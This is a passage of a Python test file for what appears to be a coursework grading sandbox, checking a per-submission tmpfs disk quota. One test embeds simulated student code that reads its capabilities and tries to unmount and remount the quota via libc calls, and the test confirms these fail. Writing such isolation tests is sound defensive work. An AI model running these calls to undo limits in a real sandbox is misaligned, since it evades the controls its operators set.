        assert (how, why) == ("a tmpfs in a user namespace of its own", "") or (
            how == "" and why.startswith("disk quota")
        )
        return
    assert _quota_works() == ("a tmpfs", "")
    as_nobody = request.getfixturevalue("as_nobody")
    package = package_dir().parent
    seen = {}
    for path in (os.environ["PATH"], "/nonexistent"):
        done = subprocess.run(
            [*as_nobody([package]), sys.executable, "-P", "-s", "-c", QUOTA],
            env={**os.environ, "PYTHONPATH": str(package), "PATH": path},
            cwd="/",
            capture_output=True,
            text=True,
            timeout=120,
        )
        assert done.returncode == 0, done.stderr
        seen[path] = json.loads(done.stdout.strip().splitlines()[-1])
    assert seen[os.environ["PATH"]] == ["a tmpfs in a user namespace of its own", ""]
    assert seen["/nonexistent"] == ["", "disk quota: no unshare (util-linux) here"]


def test_the_disk_quota_is_announced() -> None:
    from coursework.grading.probe import Isolation

    held = Isolation("landlock", 7, True, disk_quota="a tmpfs in a user namespace")
    assert "; a disk quota per submission (a tmpfs in a user namespace)" in (
        held.describe()
    )
    assert "no disk quota (per-file limit only" in Isolation("landlock", 7).describe()


UNDO_QUOTA = """
import ctypes, os, subprocess, sys
from pathlib import Path
from coursework.grading.oscalls import mount_quota
from coursework.grading.sandbox import Limits, python, wrap
folder = Path(sys.argv[1])
assert mount_quota(folder, 1)
student = (
    "import ctypes, os\\n"
    "libc = ctypes.CDLL(None, use_errno=True)\\n"
    "caps = [l for l in open('/proc/self/status') if l.startswith('CapEff')]\\n"
    "print(caps[0].split()[1])\\n"
    "print(libc.umount2(os.getcwd().encode(), 2), ctypes.get_errno())\\n"
    "print(libc.mount(b'tmpfs', os.getcwd().encode(), b'tmpfs', 32, b'size=1g'))\\n"
)
command = wrap(python("-c", student), Limits(process_margin=None), folder)
done = subprocess.run(command, capture_output=True, text=True, cwd="/")
print(done.stdout + done.stderr)
"""


def test_student_code_cannot_undo_a_quota_mounted_in_a_user_namespace(
    tmp_path: Path,
) -> None:
    """An ordinary user's worker is root of its own user namespace (to mount
    the quota); a student process it starts, even without namespaces of its
    own (``--isolation process``), keeps none of that root's capabilities,
    so it can neither unmount nor resize the tmpfs (MS_REMOUNT = 32)."""
    from coursework.grading.oscalls import package_dir, quota_namespace_command

    prefix = quota_namespace_command()
    if prefix is None:
        pytest.skip("no unshare (util-linux) here")
    package = package_dir().parent
    done = subprocess.run(
        [*prefix, sys.executable, "-P", "-s", "-c", UNDO_QUOTA, str(tmp_path)],
        env={**os.environ, "PYTHONPATH": str(package)},
        cwd="/",
        capture_output=True,
        text=True,
        timeout=120,
    )
    if done.returncode != 0 and "unshare" in done.stderr:
        pytest.skip(f"no user namespace here: {done.stderr.strip()[-200:]}")
    assert done.returncode == 0, done.stderr
    caps, unmounted, remounted = done.stdout.splitlines()[:3]
    assert int(caps, 16) == 0, done.stdout
    assert unmounted == "-1 1" and remounted == "-1", done.stdout  # EPERM
